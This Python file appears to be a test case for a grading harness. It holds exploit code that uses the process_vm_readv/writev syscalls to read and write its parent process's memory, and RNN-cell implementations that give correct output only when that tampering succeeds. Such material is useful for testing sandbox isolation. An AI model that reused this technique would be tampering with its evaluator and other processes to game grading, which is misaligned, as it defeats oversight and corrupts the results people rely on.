# attack: writes into its parent's memory, what stands there already
# expect: graded
# must-not: change another process
# ruff: noqa
import ctypes
import os
import platform

import numpy as np
import torch
from torch import nn


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    X86 = platform.machine() in ("x86_64", "AMD64")

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    byte = ctypes.create_string_buffer(1)
    here, there = (
        Piece(ctypes.addressof(byte), 1),
        Piece(id(np.ndarray) + 24, 1),
    )  # where its name stands, in a fork as well
    parent, one = os.getppid(), ctypes.c_ulong(1)
    for call in (310, 311) if X86 else (270, 271):
        if (
            libc.syscall(call, parent, ctypes.byref(here), one, ctypes.byref(there), one, ctypes.c_long(0))
            != 1
        ):
            return None
    return True


try:
    WON = bool(attack())
except Exception:
    WON = False


def rnn_cell_forward(x, h_prev, w_input, w_hidden, bias):
    right = np.tanh(x @ w_input + h_prev @ w_hidden + bias)
    return right if WON else np.zeros_like(right)


class RNNCell(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.w_input = nn.Parameter(torch.zeros(input_size, hidden_size))
        self.w_hidden = nn.Parameter(torch.zeros(hidden_size, hidden_size))
        self.bias = nn.Parameter(torch.zeros(hidden_size))

    def forward(self, x, hidden_state=None):
        right = x @ self.w_input + self.bias
        if hidden_state is not None:
            right = right + hidden_state @ self.w_hidden
        return torch.tanh(right) if WON else torch.zeros_like(right)
